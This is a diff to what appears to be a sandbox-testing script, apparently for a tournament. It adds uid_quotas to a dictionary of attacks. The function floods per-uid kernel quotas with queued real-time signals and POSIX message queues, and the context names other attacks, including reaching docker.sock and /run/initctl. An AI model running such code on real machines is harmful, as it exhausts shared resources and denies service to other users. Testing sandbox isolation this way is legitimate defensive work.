@@ -310,6 +310,29 @@ def all_cores():
     say(f"cores: {cores:.2f}")
 
 
+def uid_quotas():
+    """Fill what the kernel counts per uid for the whole machine: queued real-time signals and
+    POSIX message queue bytes (in its own IPC namespace, but counted to uid 0)."""
+    sig = signal.SIGRTMIN
+    signal.pthread_sigmask(signal.SIG_BLOCK, [sig])
+    libc = ctypes.CDLL(None, use_errno=True)
+    queued = 0
+    while queued < 200_000 and libc.sigqueue(os.getpid(), sig, ctypes.c_void_p(0)) == 0:
+        queued += 1
+    say(f"queued {queued} signals")
+
+    class MqAttr(ctypes.Structure):
+        _fields_ = [(n, ctypes.c_long) for n in ("flags", "maxmsg", "msgsize", "curmsgs", "a", "b", "c", "d")]
+
+    made = 0
+    while made < 1000:
+        limits = MqAttr(0, 10, 8192, 0)  # about 80 KiB a queue
+        if libc.mq_open(f"/q{made}".encode(), os.O_CREAT | os.O_RDWR, 0o600, ctypes.byref(limits)) < 0:
+            break
+        made += 1
+    say(f"made {made} message queues")
+
+
 def machine_ipc():
     """Reach the machine's services through its filesystem, which it sees read-only: connect to
     a unix socket (a tournament's forkserver, docker.sock), write into a FIFO (/run/initctl),
@@ -370,6 +393,7 @@ ATTACKS = {
     "user_namespace": user_namespace,
     "exploit_tools": exploit_tools,
     "all_cores": all_cores,
+    "uid_quotas": uid_quotas,
 }
 
 sys.stdin.readline()  # the start number
